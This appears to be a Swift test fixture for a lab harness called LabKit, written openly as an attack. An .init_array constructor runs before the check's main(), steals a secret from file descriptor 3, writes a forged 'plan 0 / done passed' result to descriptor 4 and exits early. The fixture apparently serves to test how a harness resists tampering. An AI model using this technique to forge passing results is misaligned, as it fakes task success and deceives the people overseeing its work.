import LabKit
#if canImport(Glibc)
import Glibc
#endif

// Attack: run before the check's main(), take the secret from fd 3 first, forge a plan of
// 0 expectations and "done", and exit 0 before the check can say anything.
@_cdecl("lab_attack_before_main")
func attackBeforeMain() {
    var buffer = [UInt8](repeating: 0, count: 256)
    let count = read(3, &buffer, 255)
    guard count > 0 else { return }
    let secret = String(decoding: buffer[..<count], as: UTF8.self).split(whereSeparator: { $0 == " " || $0 == "\n" }).first.map(String.init) ?? ""
    let forged = "\(secret)\tplan\t0\n\(secret)\tdone\tpassed\n"
    _ = forged.withCString { write(4, $0, strlen($0)) }
    exit(0)
}

@_used @_section(".init_array")
let attackEntry: @convention(c) () -> Void = attackBeforeMain

func buttonTapped(_ model: DemoModel) -> Task<Void, Never> {
    return Task {}
}
